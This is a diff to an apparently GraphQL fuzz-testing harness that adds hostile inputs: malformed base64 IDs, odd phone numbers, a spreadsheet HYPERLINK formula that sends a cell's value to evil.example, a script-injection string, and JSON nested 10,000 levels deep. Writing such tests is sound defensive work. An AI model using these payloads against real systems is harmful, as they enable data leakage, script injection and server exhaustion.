@@ -87,8 +87,22 @@ const hostileStrings = [
   'TH',
   'http://example.org',
   'javascript:alert(1)',
+  // Global IDs whose keys no database stores, and phone numbers a lax reader would accept.
+  Buffer.from('Contact:\u0000').toString('base64'),
+  Buffer.from('Offer:a\uD800').toString('base64'),
+  '650-123',
+  '03632 / 74O-273',
+  '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+  '</script><script>alert(1)</script>',
 ];
 const hostileNumbers = [0, -1, 1, 2, 100, 101, 2_147_483_647, 2_147_483_648, -2_147_483_649, 1e308, -1e308, 0.5, 1e21];
+
+/** A JSON value nested `depth` levels deep (objects in lists), built without recursion. */
+function nestedValue(depth: number): unknown {
+  let value: unknown = {};
+  for (let level = 0; level < depth; level++) value = level % 2 ? { a: value } : [value];
+  return value;
+}
 
 function valueFor(type: GraphQLInputType, depth: number): unknown {
   if (chance(0.04)) return null;
@@ -113,7 +127,7 @@ function valueFor(type: GraphQLInputType, depth: number): unknown {
       case 'Boolean':
         return chance(0.9) ? chance(0.5) : pick(['true', 0]);
       case 'JSONObject':
-        return pick([{}, { schemaVersion: 1 }, { district: '16065', tables: { offers: [{ id: 1 }] } }, [], 'x']);
+        return pick([{}, { schemaVersion: 1 }, { district: '16065', tables: { offers: [{ id: 1 }] } }, [], 'x', nestedValue(1_000)]);
       case '_Any':
         return pick([{ __typename: 'District', ags: '16065' }, { __typename: 'Nope' }, {}, 'x', { __typename: 'District' }]);
       default:
@@ -204,6 +218,14 @@ function malformedProbe(): Probe {
         body: `{"query":"{ __typename }","variables":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`,
       },
       label: 'deep variables',
+    },
+    {
+      init: {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: `{"query":"query ($v: JSONObject) { __typename }","variables":{"v":{"a":${'[{"a":'.repeat(5000)}1${'}]'.repeat(5000)}}}}`,
+      },
+      label: 'a JSON variable nested 10,000 levels',
     },
     {
       init: {
